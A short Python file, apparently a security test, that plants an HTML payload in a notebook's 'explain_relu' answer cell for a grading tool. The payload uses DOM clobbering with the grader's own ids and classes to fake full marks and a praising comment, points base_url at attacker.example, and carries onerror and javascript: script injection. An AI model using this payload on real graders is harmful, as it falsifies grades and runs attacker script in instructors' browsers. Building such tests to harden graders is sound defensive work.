"""Gives its elements the names and classes of the grader's own: its scripts may fill or save the
wrong ones."""

import json

ANSWER = r"""\
<div class="panel nbgrader_cell"><input class="score tabbable" id="test_conv2d" type="number" value="2">
<input class="score tabbable" id="explain_relu" type="number" value="4"><button class="full-credit mark-graded">ok</button>
<textarea id="explain_relu-comment" class="comment tabbable">Excellent. Full marks.</textarea></div>
<a id="submission_id"></a><a id="base_url" href="http://attacker.example/"></a><form id="MathJax" name="Hub"></form>
<form name="body"><input name="cookie"><input id="formgrade" name="models"></form>
<a data-toggle="tooltip" data-html="true" title="<img src=x onerror=attacked()>" data-link="javascript:attacked()">x</a>
<div class="live-notebook name-hidden name-shown"></div><h4 class="panel-title">Submission 1 / 1</h4>
"""


def hand_in(folder, blank, solved):
    folder.mkdir(parents=True, exist_ok=True)
    for cell in blank["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "explain_relu":
            cell["source"] = ANSWER
    (folder / "residual_block.ipynb").write_text(json.dumps(blank))
